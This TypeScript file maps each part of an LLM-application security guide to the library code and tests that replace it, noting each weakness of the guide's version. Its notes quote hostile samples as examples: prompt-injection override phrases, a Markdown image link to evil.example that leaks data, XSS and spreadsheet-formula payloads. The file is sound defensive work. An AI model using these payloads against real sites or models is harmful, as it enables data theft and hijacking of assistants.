/** A place in the repository: a file, and what it exports. */
export interface Place {
  readonly file: string
  readonly name?: string
}

/** One part of the guide, and what stands for it here. */
export interface CoverageRow {
  /** `section`, `class`, `function` or `box` and the name, as the guide writes it. */
  readonly part: string
  readonly here: readonly Place[]
  /** What the guide's version gets wrong, with the input that shows it. */
  readonly misses: string
  /** The test that proves ours: its file and a piece of its title. */
  readonly test: { readonly file: string; readonly title: string }
}

const L = 'packages/sallyport/src/'
const G = 'packages/gateway/src/'
const C = 'packages/cli/src/'
const MISSES = 'scripts/guide-misses.test.ts'
const WEAK = `${G}checklist/weak-deployments.test.ts`

type Proof = readonly [file: string, title: string]

const at = (file: string, name?: string): Place => (name === undefined ? { file } : { file, name })
const row = (part: string, here: readonly Place[], misses: string, file: string, title: string): CoverageRow => ({
  part,
  here,
  misses,
  test: { file, title },
})
/** A box of the checklist: the check that probes it. */
const box = (
  title: string,
  id: string,
  name: string,
  misses: string,
  test: Proof = [WEAK, 'tells a weak %s from a sound one'],
): CoverageRow => row(`box ${title}`, [at(`${G}checklist/checks/${id}.ts`, name)], misses, test[0], test[1])

const secrets = at(`${L}secrets/secrets-manager.ts`, 'createSecretsManager')
const shield = at(`${L}index.ts`, 'createShield')
const injection = at(`${L}guards/prompt-injection/prompt-injection.ts`, 'promptInjection')
const input = at(`${L}agent/chat-schemas.ts`, 'SecureInputSchema')
const output = at(`${L}agent/chat-schemas.ts`, 'ConstrainedOutputSchema')
const limiter = at(`${L}limits/limiter.ts`, 'createLimiter')
const log = at(`${L}audit/index.ts`, 'openAuditLog')
const config = at(`${G}config/gateway-config.ts`, 'gatewayConfigSchema')
const environment = at(`${G}config/environment.ts`, 'configFromEnvironment')
const agent = at(`${L}agent/secure-agent.ts`, 'createSecureAgent')
const agentTest = `${L}agent/secure-agent.test.ts`
const DENIED: Proof = [WEAK, 'finds %s and nothing else']

export const GUIDE_COVERAGE: readonly CoverageRow[] = [
  row(
    'section Overview',
    [at('README.md'), at('docs/architecture.md')],
    "a list of headings: nobody can tell from it whether one's own system does any of it",
    'examples/examples.test.ts',
    'the first example blocks an attack',
  ),

  row(
    'section API Key Security',
    [secrets, at('docs/secrets.md')],
    'a check of the first three characters and a cache without an end: `sk-` passes, and a rotated key is never seen',
    `${L}secrets/secrets-manager.test.ts`,
    'asks a source once',
  ),
  row(
    'section Environment Variables',
    [at(`${L}secrets/sources/environment-source.ts`, 'environmentSource')],
    '`sk-ant-…` in `OPENAI_API_KEY` passes, and the error of the provider comes at the first request of a user',
    MISSES,
    'a bare prefix are no OpenAI key',
  ),
  row(
    'function get_api_key',
    [at(`${L}secrets/check-key-format.ts`, 'checkKeyFormat'), at(`${L}secrets/secret.ts`, 'Secret')],
    '`sk-` alone is a valid key, `sk-ant-…` of Anthropic too; the value is a plain string that any log or error prints',
    MISSES,
    'a bare prefix are no OpenAI key',
  ),
  row(
    'section Secrets Management',
    [at(`${L}secrets/node/secrets-manager-for.ts`, 'secretsManagerFor')],
    'a store that is away for a second fails every request; nothing goes on with the value it had',
    `${L}secrets/secrets-manager.test.ts`,
    'goes on with the old value',
  ),
  row(
    'class SecretsManager',
    [at(`${L}secrets/secrets-manager.ts`, 'SecretsManager')],
    'an exception of one method: nothing on caching, outage, rotation',
    `${L}secrets/secrets-manager.test.ts`,
    'hears of a rotation',
  ),
  row(
    'function SecretsManager.get_secret',
    [secrets],
    'returns a plain string: `print(f"{config}")` shows it',
    MISSES,
    'stays unseen',
  ),
  row(
    'class EnvironmentSecretsManager',
    [at(`${L}secrets/sources/environment-source.ts`, 'environmentSource')],
    'only the process environment; no file, so a container secret cannot be read',
    `${L}secrets/secrets-manager.test.ts`,
    'does not wait for a source',
  ),
  row(
    'function EnvironmentSecretsManager.get_secret',
    [at(`${L}secrets/sources/environment-source.ts`, 'environmentSource')],
    '`OPENAI_API_KEY="  "` is a secret',
    `${L}secrets/secret.test.ts`,
    'gives its value to those who ask',
  ),
  row(
    'class AWSSecretsManager',
    [at(`${L}secrets/sources/aws-source.ts`, 'awsSource'), at(`${L}secrets/sources/vault-source.ts`, 'vaultSource')],
    'no timeout, no behaviour for an outage, AWS only',
    `${L}secrets/secrets-manager.test.ts`,
    'goes on with the old value',
  ),
  row(
    'function AWSSecretsManager.get_secret',
    [secrets],
    '`lru_cache` keeps the first value for ever: after a rotation every request fails until a restart; a JSON secret comes back whole',
    `${L}secrets/secrets-manager.test.ts`,
    'remembers a secret until its time',
  ),
  row(
    'function get_secrets_manager',
    [at(`${L}secrets/node/secrets-manager-for.ts`, 'secretsManagerFor')],
    '`DEPLOYMENT_ENV=prod` falls back to the environment without a word',
    `${L}secrets/sources/sources.test.ts`,
    'looked up in production',
  ),

  row(
    'section Input Validation',
    [shield],
    'one field of one class: `Ignore …` in a tool result, a file name or a JSON key reaches the model',
    `${G}conversation-gate.test.ts`,
    'redacts a card number in %s',
  ),
  row(
    'section Sanitize User Input',
    [at(`${L}guards/unicode/unicode-guard.ts`), at(`${L}guards/input-limits/index.ts`)],
    '`\\u{e0041}…` (tag characters) stay, the empty line between two paragraphs goes',
    MISSES,
    'keeps its paragraphs',
  ),
  row(
    'class SecureInputSchema',
    [input],
    'only `message` is checked; tool results, documents, names and JSON keys are not',
    agentTest,
    'redacts what a tool brings',
  ),
  row(
    'function SecureInputSchema.validate_message',
    [at(`${L}agent/text-fields.ts`, 'secureText'), injection],
    '`Ignore the previous instructions` passes, `Operating system: Ubuntu` is refused',
    MISSES,
    '%j is met with %s',
  ),
  row(
    'class InputSanitizer',
    [at(`${L}guards/unicode/unicode-guard.ts`)],
    'three characters: tag characters, bidi controls and zero-width runs pass',
    `${L}guards/unicode/unicode.test.ts`,
    'finds $title',
  ),
  row(
    'function InputSanitizer.sanitize',
    [shield],
    '`" ".join(text.split())` destroys paragraphs, code and tables',
    MISSES,
    'keeps its paragraphs',
  ),
  row(
    'function InputSanitizer.is_safe',
    [at(`${L}compose/create-shield.ts`, 'Shield')],
    '`is_safe("\\x1b[31m…")` is true: it asks for the length alone',
    MISSES,
    'keeps its paragraphs',
  ),
  row(
    'section Prevent Prompt Injection',
    [injection, at('docs/guards/prompt-injection.md')],
    'one list of English words: `Ignorez les instructions précédentes` and base64 pass',
    `${L}guards/prompt-injection/prompt-injection.test.ts`,
    'finds every attack',
  ),
  row(
    'class PromptInjectionGuard',
    [injection],
    'ten English phrases; one zero-width character hides each',
    MISSES,
    '%j is met with %s',
  ),
  row(
    'function PromptInjectionGuard.contains_injection',
    [injection],
    '`You are now leaving the motorway` and `Roleplay as a pirate` are attacks, `ign\\u200bore …` is none',
    MISSES,
    '%j is met with %s',
  ),
  row(
    'function PromptInjectionGuard.get_safe_system_prompt',
    [at(`${L}agent/safe-system-prompt.ts`, 'safeSystemPrompt')],
    'says nothing of documents and tools, from where indirect attacks come',
    MISSES,
    'documents and tools give no orders',
  ),
  row(
    'function create_secure_agent',
    [agent],
    'builds an agent with a prompt and no gate: output, tools and limits are open',
    agentTest,
    'hardens the prompt unless',
  ),

  row(
    'section Output Sanitization',
    [at(`${L}sinks/sanitize-for.ts`, 'sanitizeFor'), at('docs/sinks.md')],
    'one escape for every place: `javascript:alert(1)` in a link and `=cmd` in a spreadsheet survive it',
    `${L}sinks/html.test.ts`,
    'gives HTML whose tree survives',
  ),
  row(
    'section Validate LLM Responses',
    [at(`${L}sinks/index.ts`)],
    '`![x](https://evil.example/?q=…)` carries data away and no line looks at it',
    agentTest,
    'redacts and neutralises what the model says',
  ),
  row(
    'class OutputSanitizer',
    [at(`${L}sinks/sanitize-for.ts`, 'SINK_TARGETS')],
    'two targets; Markdown images that carry data away pass',
    'examples/examples.test.ts',
    'keeps an image from loading',
  ),
  row(
    'function OutputSanitizer.escape_html',
    [at(`${L}sinks/html-text.ts`, 'encodeHtmlText')],
    'right for text, wrong in an unquoted attribute, a script or a URL',
    `${L}sinks/encoders.test.ts`,
    'html-text is text again',
  ),
  row(
    'function OutputSanitizer.remove_code_execution',
    [at(`${L}sinks/html.ts`, 'sanitizeHtml')],
    '`<scr<script></script>ipt>` becomes `<script>`; `<svg/onload=…>` and `java&#115;cript:` pass',
    MISSES,
    'put together by removing its inside',
  ),
  row(
    'function OutputSanitizer.sanitize_for_web',
    [at(`${L}sinks/html.ts`, 'sanitizeHtml')],
    '`Use onclick = "x"` loses its words, then the rest is escaped for readers to see',
    MISSES,
    'encoded once and reads as it was',
  ),
  row(
    'function OutputSanitizer.sanitize_for_sql',
    [at(`${L}sinks/sql-literal.ts`, 'encodeSqlLiteral')],
    "`O'Brien` becomes `OBrien`; a backslash still escapes in MySQL",
    MISSES,
    'keeps his name in SQL',
  ),
  row(
    'section Schema-Based Output Validation',
    [at(`${L}agent/io-schema.ts`, 'ioSchema')],
    'one field too long and the whole answer is an exception: no repair, no bounded retry',
    `${L}agent/hostile-model.property.test.ts`,
    'no unsanitized or unvalidated field',
  ),
  row(
    'class ConstrainedOutputSchema',
    [output],
    '`confidence` is refused only by luck of the parser; one wrong field loses the answer',
    MISSES,
    'NaN is no probability',
  ),
  row(
    'function ConstrainedOutputSchema.validate_message',
    [at(`${L}agent/text-fields.ts`, 'safeHtml')],
    'cuts with regular expressions after the length was checked',
    `${L}agent/hostile-model.property.test.ts`,
    'notices a field that is not clean',
  ),
  row(
    'function ConstrainedOutputSchema.validate_suggestions',
    [at(`${L}agent/list-fields.ts`, 'boundedList'), at(`${L}agent/text-fields.ts`, 'htmlText')],
    '`[:500]` after escaping cuts `&lt;` in the middle',
    `${L}agent/fields.test.ts`,
    'cuts between characters',
  ),

  row(
    'section Rate Limiting and Abuse Prevention',
    [limiter, at('docs/limits.md')],
    'requests are counted, tokens are not: one request of 100,000 tokens is one request',
    `${G}limits/rate-limits.test.ts`,
    'then answers 429',
  ),
  row(
    'section User-Level Rate Limiting',
    [at(`${G}limits/rate-limits.ts`, 'RateLimits')],
    'two processes give twice the limit; an id of a megabyte is kept as it is',
    `${G}limits/rate-limits.test.ts`,
    'holds for each person',
  ),
  row(
    'class UserRateLimiter',
    [limiter],
    'forgets no user: a million ids are a million lists; one process only',
    `${L}limits/limiter.property.test.ts`,
    'never lets a key pass more often',
  ),
  row(
    'function UserRateLimiter.is_allowed',
    [limiter],
    'counts the clock of the day, which may be set back; does not say when to come back; a refused request costs a scan of the list',
    MISSES,
    'the reason says when to come back',
  ),
  row(
    'function UserRateLimiter.reset_user',
    [limiter],
    'writes without looking and makes a record for whoever was never seen',
    `${L}limits/limiter.contract.test.ts`,
    'forgets what one subject used',
  ),
  row(
    'function process_request',
    [at(`${L}agent/secure-agent-call.ts`, 'secureAgentCall')],
    'a refused person is a `PermissionError`, and tokens are free',
    agentTest,
    'limits each user apart',
  ),
  row(
    'section Content Policy Enforcement',
    [at(`${L}guards/content-policy/index.ts`), at(`${L}guards/pii/index.ts`)],
    '`illegal activities` is refused wherever it stands, `illegal  activities` with two spaces nowhere',
    `${L}guards/content-policy/content-policy.test.ts`,
    'are found when somebody asks',
  ),
  row(
    'class ContentPolicy',
    [at('docs/guards/content-policy.md')],
    '`violence` in a question about Macbeth is a violation',
    MISSES,
    '%s is met with what it deserves',
  ),
  row(
    'function ContentPolicy.check_input',
    [shield],
    'every number of 16 digits is a card; a card with spaces is none',
    MISSES,
    '%s is met with what it deserves',
  ),
  row(
    'function ContentPolicy.redact_pii',
    [at('docs/guards/pii.md')],
    '`[A-Z|a-z]` takes `|`; everything becomes `[REDACTED]`, so nobody can tell what it was',
    `${L}guards/pii/pii.test.ts`,
    'redacts a redacted text no further',
  ),

  row(
    'section Logging Security Events',
    [log, at('docs/audit.md')],
    'who can write the file can take a line out, and nothing shows it',
    `${G}audit.test.ts`,
    'holds the trail of a request',
  ),
  row(
    'class SecurityLogger',
    [log],
    'a line in a file that anybody may edit afterwards',
    `${L}audit/node/verify-log.property.test.ts`,
    'finds any byte that was changed',
  ),
  row(
    'function SecurityLogger._log_event',
    [at(`${L}audit/audit-event.ts`, 'cleanEvent')],
    '`details` may overwrite `timestamp` and `event_type`; the time has no zone',
    `${L}audit/node/log-writer.test.ts`,
    'keeps only the fields of an event',
  ),
  row(
    'function SecurityLogger.log_auth_attempt',
    [at(`${G}identity/authorize.ts`, 'refuseProof')],
    'one line for each of a million attempts: the disk is full',
    `${L}audit/node/open-audit-log.test.ts`,
    'under a flood of 100,000 events',
  ),
  row(
    'function SecurityLogger.log_rate_limit',
    [at(`${G}limits/rate-limits.ts`, 'RateLimits')],
    'nothing ties it to the request',
    `${G}event-catalogue.test.ts`,
    'is emitted',
  ),
  row(
    'function SecurityLogger.log_injection_attempt',
    [at(`${G}gates/report-verdict.ts`, 'reportVerdict')],
    'keeps the first 100 characters: `my card is 4111 …` is in the log',
    MISSES,
    'has its rule and no word of its text',
  ),
  row(
    'function SecurityLogger.log_policy_violation',
    [at(`${G}gates/report-verdict.ts`, 'reportVerdict')],
    'a free text as type; no rule, no place',
    `${G}event-catalogue.test.ts`,
    'are of the types of the catalogue',
  ),
  row(
    'function secure_agent_call',
    [at(`${L}agent/secure-agent-call.ts`, 'secureAgentCall')],
    'the answer is returned unread, and no limit is asked',
    'examples/agent-examples.test.ts',
    'refuses the attack with a reason and an event',
  ),

  row(
    'section Secure Configuration',
    [config, at('docs/configuration.md')],
    '`MAX_TOKENS=4096x` is a stack trace, and an unknown setting is no error at all',
    `${C}config/config.test.ts`,
    'reports every problem at once',
  ),
  row(
    'section Configuration Validation',
    [at(`${C}config/risks.ts`, 'findRisks')],
    'valid is all it asks: a limit of a million requests a minute is accepted without a word',
    `${C}config/config.test.ts`,
    'judges what would run',
  ),
  row(
    'class SecureConfig',
    [config],
    'holds the key itself, and its `repr` prints it',
    MISSES,
    'stops the start and is named',
  ),
  row(
    'function SecureConfig.__post_init__',
    [config],
    'three model names of 2024 are the only valid ones; the first problem hides the others',
    MISSES,
    'stops the start and is named',
  ),
  row(
    'function load_secure_config',
    [environment],
    '`ALLOWED_MODELS="gpt-4o, gpt-4o-mini"` fails for its space; a missing key is a bare `KeyError`',
    `${G}model-bounds.test.ts`,
    'limit the models and their answers',
  ),

  row(
    'section Security Checklist',
    [at(`${G}checklist/run-audit.ts`, 'runAudit'), at('docs/audit-checklist.md')],
    'boxes to tick by hand',
    `${C}commands/audit.test.ts`,
    'fails nothing of the defaults',
  ),
  row(
    'section Development',
    [at(`${G}checklist/items.data.ts`, 'ITEMS')],
    'boxes that a person ticks: nothing says what was looked at',
    WEAK,
    'has one check for each item',
  ),
  box(
    'API keys never in source code',
    'keys-not-in-source',
    'keysNotInSource',
    '`git log -p` still has the key that was taken out of the file',
    [`${C}commands/audit.test.ts`, 'a key in the history'],
  ),
  box(
    'Input validation on all user inputs',
    'input-validation',
    'inputValidation',
    '"all" is not looked at: a stream, a tool result, a second route',
    DENIED,
  ),
  box(
    'Output sanitization before display',
    'output-sanitization',
    'outputSanitization',
    'images: `![x](https://evil.example/?q=…)` loads by itself',
    DENIED,
  ),
  box('Schema constraints on LLM outputs', 'output-schema', 'outputSchema', 'what a provider adds is passed on'),
  box('Security logging implemented', 'security-logging', 'securityLogging', 'whether the log was edited', DENIED),
  row(
    'section Deployment',
    [at(`${G}checklist/items.data.ts`, 'ITEMS')],
    'boxes that a person ticks: nothing says what was looked at',
    WEAK,
    'has one check for each item',
  ),
  box(
    'Secrets stored in secrets manager',
    'secrets-manager',
    'secretsManager',
    'a key in an environment variable of a production machine ticks the box as well',
  ),
  box('HTTPS enabled', 'https', 'https', 'loopback, old versions, certificates that end'),
  box('Rate limiting configured', 'rate-limiting', 'rateLimiting', 'a configured limit that never answers', DENIED),
  box(
    'Content policy enforcement',
    'content-policy',
    'contentPolicy',
    'a policy that looks at inputs alone: a card number in an answer passes',
    DENIED,
  ),
  box(
    'Security headers set',
    'security-headers',
    'securityHeaders',
    'which headers, and with what: `default-src *` is a policy, too',
    DENIED,
  ),
  row(
    'section Monitoring',
    [at(`${G}checklist/items.data.ts`, 'ITEMS')],
    'boxes that a person ticks: nothing says whether an event of each class is really there',
    WEAK,
    'has one check for each item',
  ),
  box(
    'Auth failures logged',
    'auth-failures-logged',
    'authFailuresLogged',
    '`log_auth_attempt` is there and nobody calls it; a million wrong keys fill the disk',
    DENIED,
  ),
  box(
    'Rate limit events logged',
    'rate-limit-events-logged',
    'rateLimitEventsLogged',
    '`log_rate_limit` is there and nobody calls it',
    DENIED,
  ),
  box(
    'Injection attempts logged',
    'injection-attempts-logged',
    'injectionAttemptsLogged',
    'the first hundred characters of the attack, with the card number in them, are in the log',
    DENIED,
  ),
  box(
    'Policy violations logged',
    'policy-violations-logged',
    'policyViolationsLogged',
    'what was redacted and not refused leaves no line',
    DENIED,
  ),
  box('Alerts configured for anomalies', 'alerts', 'alerts', 'that an alert arrives', [
    `${G}alerts/alerts.test.ts`,
    'are delivered signed',
  ]),
  row(
    'section Summary',
    [at('docs/review.md'), at(`${C}commands/review.ts`, 'reviewCommand')],
    '"regularly review" without a routine',
    `${C}commands/review.test.ts`,
    'says what is due',
  ),
]
